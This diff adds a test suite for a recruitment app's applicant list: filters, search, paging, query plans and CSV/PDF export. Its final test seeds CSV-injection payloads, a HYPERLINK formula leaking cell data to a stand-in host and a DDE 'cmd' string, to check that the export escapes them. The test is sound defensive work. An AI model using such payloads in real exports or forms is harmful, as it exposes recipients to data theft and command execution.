@@ -1,0 +1,456 @@
+/** The applicant list of a position: labels, filters, search, paging and sorting, its plan, and its export. */
+import { describe, expect, it } from 'vitest';
+import { eq, sql } from 'drizzle-orm';
+import { parse as parseCsv } from 'csv-parse/sync';
+import { PDFDocument } from 'pdf-lib';
+import { PermissionId, answerFilterGroups, type ApplicantFilter } from '@rekry/domain';
+import { customerServiceForm } from '../src/services/sample-data/forms.ts';
+import { generateApplicants } from '../src/services/applicant-generator.ts';
+import { applicantPageQuery } from '../src/actions/applicants/queries.ts';
+import type { Queryable } from '../src/db/client.ts';
+import { jobApplications, labels } from '../src/db/schema.ts';
+import { applicantsTestApp, buildApplication, labelByName } from './helpers/applicants.ts';
+import { dispatch } from './helpers/app.ts';
+import { buildContainer, buildPosition, buildUser, tokenFor } from './helpers/factories.ts';
+
+const { t, world, tokens, own, positionWithRights, list } = applicantsTestApp();
+
+describe('labels', () => {
+  it('every company has the default Interest and Process labels from the start, also new ones', async () => {
+    const fresh = await buildContainer(t.db);
+    const rows = await t.db.select().from(labels).where(eq(labels.containerId, fresh.id));
+    expect(rows.filter((l) => l.labelType === 'Interest').map((l) => l.name)).toEqual(
+      expect.arrayContaining(['Intressant', 'Kanske', 'Ej aktuell']),
+    );
+    expect(rows.filter((l) => l.labelType === 'Process').length).toBeGreaterThanOrEqual(4);
+    // One default per type (migration 0012): the first of each.
+    expect(
+      rows
+        .filter((l) => l.isDefault)
+        .map((l) => l.name)
+        .sort(),
+    ).toEqual(['Kontaktad', 'Mycket intressant']);
+
+    const res = await dispatch(t.app, tokens.reader, 'get_Labels', { containerId: own() });
+    expect(res.status).toBe(200);
+    expect(res.body.data[0].labelType.name).toBe('Interest');
+    expect(res.body.data.map((l: { name: string }) => l.name)).toContain('Telefonintervju');
+  });
+});
+
+describe('get_ApplicantsByPosition', () => {
+  it('answers 401 without a token, 403 to another company, 404 for a position of another company', async () => {
+    const position = await positionWithRights();
+    expect((await list(undefined, position.id)).status).toBe(401);
+    const foreignRes = await dispatch(t.app, tokens.foreignAdmin, 'get_ApplicantsByPosition', {
+      containerId: own(),
+      positionId: position.id,
+    });
+    expect(foreignRes.status).toBe(403);
+    const foreignPosition = await buildPosition(t.db, world.foreign.id);
+    await buildApplication(t.db, world.foreign.id, foreignPosition.id);
+    expect((await list(tokens.admin, foreignPosition.id)).status).toBe(404);
+  });
+
+  it('answers 400 per bad field', async () => {
+    const position = await positionWithRights();
+    for (const [field, value] of [
+      ['labelId', -2],
+      ['labelId', 'x'],
+      ['processLabelId', 1.5],
+      ['sort', 'age'],
+      ['take', 0],
+      ['take', 201],
+      ['after', 'not-a-cursor'],
+      ['answers', [{ key: 'form_ssn', value: '199001011239' }]],
+      ['answers', 'x'],
+      ['query', 'x'.repeat(101)],
+      ['labelId', 999_999],
+    ] as const) {
+      const res = await list(tokens.reader, position.id, { [field]: value });
+      expect(res.status, `${field}=${JSON.stringify(value)}`).toBe(400);
+      expect(Object.keys(res.body.error.fields ?? {}).join(), field).toContain(field);
+      expect(res.body.error.message).toMatch(/[a-zåäö]/i);
+    }
+    // A label of another company is unknown here.
+    const foreignLabel = await labelByName(t.db, world.foreign.id, 'Intressant');
+    expect((await list(tokens.reader, position.id, { labelId: foreignLabel.id })).status).toBe(400);
+  });
+
+  it('filters by status, process level and answers, exactly', async () => {
+    const position = await positionWithRights();
+    const interesting = await labelByName(t.db, own(), 'Intressant');
+    const no = await labelByName(t.db, own(), 'Ej aktuell');
+    const interview = await labelByName(t.db, own(), 'Intervju');
+    const make = (name: string, options: Parameters<typeof buildApplication>[3]) =>
+      buildApplication(t.db, own(), position.id, { firstname: name, lastname: 'Test', ...options });
+    const a = await make('Alfa', {
+      labelId: interesting.id,
+      answers: {
+        summerperiodsform_1: true,
+        driverlicenseform_2: true,
+        licensetodriveform: 'licensetodrive_1',
+      },
+    });
+    const b = await make('Bravo', {
+      labelId: interesting.id,
+      processLabelId: interview.id,
+      answers: {
+        summerperiodsform_2: true,
+        requirementsform_1: true,
+        'radio-group_shift': 'radio-group_shift_2',
+      },
+    });
+    const c = await make('Charlie', {
+      labelId: no.id,
+      answers: { summerperiodsform_1: true, summerperiodsform_2: true, customform_languages_3: true },
+    });
+    const d = await make('Delta', {
+      answers: {
+        driverlicenseform_2: true,
+        licensetodriveform: 'licensetodrive_2',
+        requirementsform_1: true,
+      },
+    });
+    const ids = async (extra: Record<string, unknown>) => {
+      const res = await list(tokens.reader, position.id, extra);
+      expect(res.status, JSON.stringify(res.body)).toBe(200);
+      return res.body.data.items.map((i: { id: number }) => i.id).sort((x: number, y: number) => x - y);
+    };
+    const sorted = (...xs: { id: number }[]) => xs.map((x) => x.id).sort((x, y) => x - y);
+
+    expect(await ids({})).toEqual(sorted(a, b, c, d));
+    expect(await ids({ labelId: -1 })).toEqual(sorted(a, b, c, d));
+    expect(await ids({ labelId: interesting.id })).toEqual(sorted(a, b));
+    expect(await ids({ labelId: 0 })).toEqual(sorted(d));
+    expect(await ids({ processLabelId: interview.id })).toEqual(sorted(b));
+    expect(await ids({ processLabelId: 0 })).toEqual(sorted(a, c, d));
+    expect(await ids({ answers: [{ key: 'summerperiodsform_1', value: true }] })).toEqual(sorted(a, c));
+    expect(
+      await ids({
+        answers: [
+          { key: 'summerperiodsform_1', value: true },
+          { key: 'summerperiodsform_2', value: true },
+        ],
+      }),
+    ).toEqual(sorted(c));
+    expect(await ids({ answers: [{ key: 'requirementsform_1', value: true }] })).toEqual(sorted(b, d));
+    expect(await ids({ answers: [{ key: 'radio-group_shift', value: 'radio-group_shift_2' }] })).toEqual(
+      sorted(b),
+    );
+    expect(await ids({ answers: [{ key: 'customform_languages_3', value: true }] })).toEqual(sorted(c));
+    // 'Körkort och egen bil': a licence and an own car, both.
+    const groups = answerFilterGroups(position.form);
+    const driver = groups.find((g) => g.kind === 'Har körkort och egen bil')!;
+    const both = driver.options.find((o) => o.label === 'Körkort och egen bil')!;
+    expect(await ids({ answers: both.conditions })).toEqual(sorted(a));
+    expect(
+      await ids({ labelId: interesting.id, answers: [{ key: 'requirementsform_1', value: true }] }),
+    ).toEqual(sorted(b));
+    // 'Sök sökande': a part of the name, the e-mail or the city, in any case (Swedish letters too).
+    expect(await ids({ query: 'charl' })).toEqual(sorted(c));
+    expect(await ids({ query: 'CHARL' })).toEqual(sorted(c));
+    expect(await ids({ query: 'VÄSTERÅS' })).toEqual(sorted(a, b, c, d));
+    const all = await list(tokens.reader, position.id, {});
+    const deltaEmail: string = all.body.data.items.find((i: { id: number }) => i.id === d.id).email;
+    expect(await ids({ query: deltaEmail.slice(0, 14) })).toEqual(sorted(d));
+    expect(await ids({ query: '%' })).toEqual([]);
+
+    const res = await list(tokens.reader, position.id, { labelId: interesting.id });
+    expect(res.body.data.total).toBe(2);
+    const item = res.body.data.items.find((i: { id: number }) => i.id === a.id);
+    expect(item).toMatchObject({ name: 'Alfa Test', isUnprocessed: false, isUnread: true, gender: 'Man' });
+    expect(item.age).toBeGreaterThan(30);
+    expect(item.answers).toEqual(
+      expect.arrayContaining([expect.objectContaining({ title: 'Har körkort och egen bil' })]),
+    );
+  });
+
+  it('Tjänster: only applicants who also applied to another position of the company', async () => {
+    const position = await positionWithRights();
+    const other = await buildPosition(t.db, own());
+    const both = await buildApplication(t.db, own(), position.id);
+    await t.db.insert(jobApplications).values({
+      containerId: own(),
+      positionId: other.id,
+      userId: both.userId,
+      metadata: {},
+      info: both.info,
+    });
+    await buildApplication(t.db, own(), position.id);
+    const res = await list(tokens.reader, position.id, { otherPositionId: other.id });
+    expect(res.status).toBe(200);
+    expect(res.body.data.items.map((i: { id: number }) => i.id)).toEqual([both.id]);
+    const filters = await dispatch(t.app, tokens.reader, 'get_ApplicantFilters', {
+      containerId: own(),
+      positionId: position.id,
+    });
+    expect(filters.body.data.positions[0]).toEqual({ value: -1, label: 'Alla' });
+    expect(filters.body.data.positions.map((p: { value: number }) => p.value)).toContain(other.id);
+    expect(filters.body.data.positions.map((p: { value: number }) => p.value)).not.toContain(position.id);
+    const foreign = await buildPosition(t.db, world.foreign.id);
+    for (const otherPositionId of [foreign.id, 0, 'x']) {
+      const bad = await list(tokens.reader, position.id, { otherPositionId });
+      expect(bad.status).toBe(400);
+      expect(bad.body.error.fields.otherPositionId).toBe('Okänd tjänst');
+    }
+  });
+
+  it('offers the filter groups of SPEC §9, each with Alla first for the labels', async () => {
+    const position = await positionWithRights();
+    const res = await dispatch(t.app, tokens.reader, 'get_ApplicantFilters', {
+      containerId: own(),
+      positionId: position.id,
+    });
+    expect(res.status).toBe(200);
+    const data = res.body.data;
+    expect(data.status[0]).toEqual({ value: -1, label: 'Alla' });
+    expect(data.status[1]).toEqual({ value: 0, label: 'Ej behandlad' });
+    expect(data.processLevel[0]).toEqual({ value: -1, label: 'Alla' });
+    const kinds = data.answers.map((g: { kind: string }) => g.kind);
+    expect(kinds).toEqual(
+      expect.arrayContaining([
+        'Perioder',
+        'Har körkort och egen bil',
+        'Meriterande',
+        'CheckboxGroup',
+        'RadioGroup',
+      ]),
+    );
+    // The agreement is never a filter.
+    expect(JSON.stringify(data.answers)).not.toContain('form_agreement');
+  });
+
+  it('hides age and gender when the company profile does', async () => {
+    const company = await buildContainer(t.db, {
+      metadata: { foreignKey: null, properties: { showAge: false, showGender: false } },
+    });
+    const admin = await buildUser(t.db, { memberOf: [[company.id, [PermissionId.Administrator]]] });
+    const token = await tokenFor(t.db, t.app.services.tokens, admin.id);
+    const position = await buildPosition(t.db, company.id);
+    await buildApplication(t.db, company.id, position.id);
+    const res = await dispatch(t.app, token, 'get_ApplicantsByPosition', {
+      containerId: company.id,
+      positionId: position.id,
+    });
+    expect(res.status).toBe(200);
+    expect(res.body.data.showAge).toBe(false);
+    expect(res.body.data.items[0]).not.toHaveProperty('age');
+    expect(res.body.data.items[0]).not.toHaveProperty('gender');
+  });
+
+  it('pages 30 at a time in every sort without losing or repeating anyone', async () => {
+    const position = await positionWithRights(customerServiceForm());
+    const base = Date.now() - 100 * 60_000;
+    const names = ['Östen', 'anna', 'Åsa', 'Bertil', 'Cecilia', 'david'];
+    const values = Array.from({ length: 75 }, (_, i) => i);
+    for (const i of values)
+      await buildApplication(t.db, own(), position.id, {
+        firstname: names[i % names.length]!,
+        lastname: `Nr${String(i).padStart(2, '0')}`,
+        // Some share a timestamp: the id breaks the tie.
+        createdAt: new Date(base + Math.floor(i / 3) * 60_000),
+      });
+    for (const sort of ['newest', 'oldest', 'nameAsc', 'nameDesc']) {
+      const seen: number[] = [];
+      let after: string | undefined;
+      let pages = 0;
+      do {
+        const res = await list(tokens.reader, position.id, { sort, ...(after ? { after } : {}) });
+        expect(res.status).toBe(200);
+        if (pages === 0) expect(res.body.data.total).toBe(75);
+        else expect(res.body.data.total).toBeNull();
+        expect(res.body.data.items.length).toBeLessThanOrEqual(30);
+        seen.push(...res.body.data.items.map((i: { id: number }) => i.id));
+        after = res.body.data.nextCursor ?? undefined;
+        pages += 1;
+      } while (after);
+      expect(pages, sort).toBe(3);
+      expect(new Set(seen).size, sort).toBe(75);
+    }
+    const first = await list(tokens.reader, position.id, { sort: 'nameAsc', take: 75 });
+    const shown = first.body.data.items.map((i: { name: string }) => i.name.toLowerCase());
+    expect(shown).toEqual([...shown].sort());
+  });
+
+  it('reads the list and a filtered list through the position indexes (EXPLAIN)', async () => {
+    const position = await positionWithRights();
+    const plan = async (filter: Partial<ApplicantFilter>) =>
+      t.db.transaction(async (tx) => {
+        // Few rows here, so the planner would scan and sort anyway: forbid that to see whether the index fits.
+        await tx.execute(sql`set local enable_seqscan = off`);
+        await tx.execute(sql`set local enable_sort = off`);
+        return pagePlan(tx, position.id, filter);
+      });
+    expect(await plan({})).toContain('job_applications_position_created_idx');
+    expect(await plan({ sort: 'nameAsc' })).toContain('job_applications_position_name_idx');
+    const interesting = await labelByName(t.db, own(), 'Intressant');
+    expect(await plan({ labelId: interesting.id })).toContain('job_applications_position_label_idx');
+    expect(await plan({ answers: [{ key: 'requirementsform_1', value: true }] })).toMatch(
+      /job_applications_(metadata|position_created)_idx/,
+    );
+  });
+});
+
+/** EXPLAIN of the list's first page (newest first, every status) with `filter` on top. */
+async function pagePlan(db: Queryable, positionId: number, filter: Partial<ApplicantFilter>) {
+  const full: ApplicantFilter = {
+    labelId: -1,
+    processLabelId: -1,
+    otherPositionId: -1,
+    answers: [],
+    query: '',
+    sort: 'newest',
+    ...filter,
+  };
+  const result = await db.execute(
+    sql`explain ${applicantPageQuery(db, own(), positionId, full, { take: 30 })}`,
+  );
+  return (result as unknown as { rows: Record<string, string>[] }).rows
+    .map((r) => Object.values(r)[0])
+    .join('\n');
+}
+
+describe('the list at scale', () => {
+  it('reads the first page and a filtered page through the indexes by the planner’s own choice', async () => {
+    const position = await positionWithRights();
+    await generateApplicants(t.db, own(), position.id, position.form, 5000);
+    const interesting = await labelByName(t.db, own(), 'Intressant');
+    const plan = (filter: Partial<ApplicantFilter>) => pagePlan(t.db, position.id, filter);
+    const first = await plan({});
+    expect(first).toContain('job_applications_position_created_idx');
+    expect(first).not.toMatch(/Seq Scan|Sort/);
+    const filtered = await plan({
+      labelId: interesting.id,
+      answers: [{ key: 'requirementsform_1', value: true }],
+    });
+    expect(filtered).toContain('job_applications_position_label_idx');
+    expect(filtered).not.toMatch(/Seq Scan|Sort/);
+    const byName = await plan({ sort: 'nameDesc' });
+    expect(byName).toContain('job_applications_position_name_idx');
+    expect(byName).not.toMatch(/Seq Scan|Sort/);
+    // 'Sök sökande' for a name no one here has: the trigram index answers instead of reading every row.
+    const searched = await plan({ query: 'zqxw' });
+    expect(searched).toContain('job_applications_search_idx');
+    expect(searched).not.toMatch(/Seq Scan/);
+  });
+});
+
+describe('create_DemoApplicants', () => {
+  it('generates applicants with answers the filters find, for a superuser only', async () => {
+    const position = await positionWithRights();
+    const data = { containerId: own(), positionId: position.id, count: 300 };
+    expect((await dispatch(t.app, tokens.admin, 'create_DemoApplicants', data)).status).toBe(403);
+    const res = await dispatch(t.app, tokens.superuser, 'create_DemoApplicants', data);
+    expect(res.status, JSON.stringify(res.body)).toBe(200);
+    expect(res.body.data.created).toBe(300);
+    const all = await list(tokens.reader, position.id);
+    expect(all.body.data.total).toBe(300);
+    const merit = await list(tokens.reader, position.id, {
+      answers: [{ key: 'requirementsform_1', value: true }],
+    });
+    expect(merit.body.data.total).toBeGreaterThan(50);
+    expect(merit.body.data.total).toBeLessThan(200);
+    const unprocessed = await list(tokens.reader, position.id, { labelId: 0 });
+    expect(unprocessed.body.data.total).toBe(100);
+    const radio = await list(tokens.reader, position.id, {
+      answers: [{ key: 'radio-group_shift', value: 'radio-group_shift_1' }],
+    });
+    expect(radio.body.data.total).toBeGreaterThan(50);
+    expect(all.body.data.items[0].age).toBeGreaterThan(15);
+    const bad = await dispatch(t.app, tokens.superuser, 'create_DemoApplicants', { ...data, count: 100_001 });
+    expect(bad.status).toBe(400);
+  });
+});
+
+describe('export_Applicants', () => {
+  it('exports the filtered list as CSV and as a readable PDF', async () => {
+    const position = await positionWithRights();
+    const interesting = await labelByName(t.db, own(), 'Intressant');
+    await buildApplication(t.db, own(), position.id, {
+      firstname: 'Åke',
+      lastname: 'Öberg',
+      labelId: interesting.id,
+      answers: { summerperiodsform_1: true },
+    });
+    await buildApplication(t.db, own(), position.id, { firstname: 'Bortfiltrerad' });
+    const csv = await dispatch(t.app, tokens.reader, 'export_Applicants', {
+      containerId: own(),
+      positionId: position.id,
+      labelId: interesting.id,
+    });
+    expect(csv.status).toBe(200);
+    expect(csv.body.data).toMatchObject({ contentType: 'text/csv; charset=utf-8', rows: 1 });
+    expect(csv.body.data.filename).toMatch(/^sokande-.*\.csv$/);
+    const text = Buffer.from(csv.body.data.data, 'base64').toString('utf8');
+    const lines = text
+      .replace(/^\uFEFF/, '')
+      .trim()
+      .split('\r\n');
+    expect(lines).toHaveLength(2);
+    expect(lines[0]).toContain('Namn;E-post');
+    expect(lines[1]).toContain('Åke Öberg');
+    expect(lines[1]).toContain('Intressant');
+    expect(text).not.toContain('Bortfiltrerad');
+
+    const pdf = await dispatch(t.app, tokens.reader, 'export_Applicants', {
+      containerId: own(),
+      positionId: position.id,
+      format: 'pdf',
+    });
+    expect(pdf.status).toBe(200);
+    const bytes = Buffer.from(pdf.body.data.data, 'base64');
+    expect(bytes.subarray(0, 5).toString()).toBe('%PDF-');
+    const doc = await PDFDocument.load(bytes);
+    expect(doc.getPageCount()).toBe(1);
+    expect(pdf.body.data.rows).toBe(2);
+
+    const bad = await dispatch(t.app, tokens.reader, 'export_Applicants', {
+      containerId: own(),
+      positionId: position.id,
+      format: 'xlsx',
+    });
+    expect(bad.status).toBe(400);
+    expect(bad.body.error.fields.format).toBe('Välj CSV eller PDF');
+  });
+
+  it('neutralises every cell a spreadsheet would compute (OWASP CSV injection); numbers stay numbers', async () => {
+    const position = await positionWithRights();
+    const hostile = [
+      ['=HYPERLINK("https://ond.example/?"&A1;"Klicka")', '+SUM(1;2)', "-2+3+cmd|' /C calc'!A0", '@SUM(A1)'],
+      ['Anna', 'Andersson', '\t=1+1', '\r=1+1'],
+    ];
+    for (const [firstname, lastname, city, phone] of hostile)
+      await buildApplication(t.db, own(), position.id, {
+        firstname,
+        lastname,
+        answers: { form_city: city!, form_mobilePhone: phone! },
+      });
+    await buildApplication(t.db, own(), position.id, {
+      firstname: 'Siffror',
+      answers: { form_city: '-12', form_mobilePhone: '+46701234567' },
+    });
+    const res = await dispatch(t.app, tokens.reader, 'export_Applicants', {
+      containerId: own(),
+      positionId: position.id,
+    });
+    expect(res.status).toBe(200);
+    const text = Buffer.from(res.body.data.data, 'base64')
+      .toString('utf8')
+      .replace(/^\uFEFF/, '');
+    const cells: string[] = parseCsv(text, { delimiter: ';', relax_column_count: true }).flat();
+    const formulaLike = cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?\d+(?:[.,]\d+)?$/.test(c));
+    expect(formulaLike).toEqual([]);
+    for (const value of [
+      '=HYPERLINK("https://ond.example/?"&A1;"Klicka") +SUM(1;2)',
+      "-2+3+cmd|' /C calc'!A0",
+    ])
+      expect(cells).toContain(`'${value}`);
+    expect(cells).toContain("'@SUM(A1)");
+    const tabAndReturn = cells.filter((c) => c.includes('=1+1'));
+    expect(tabAndReturn).toHaveLength(2);
+    for (const cell of tabAndReturn) expect(cell).toMatch(/^'/);
+    expect(cells).toContain('-12');
+    expect(cells).toContain('+46701234567');
+  });
+});
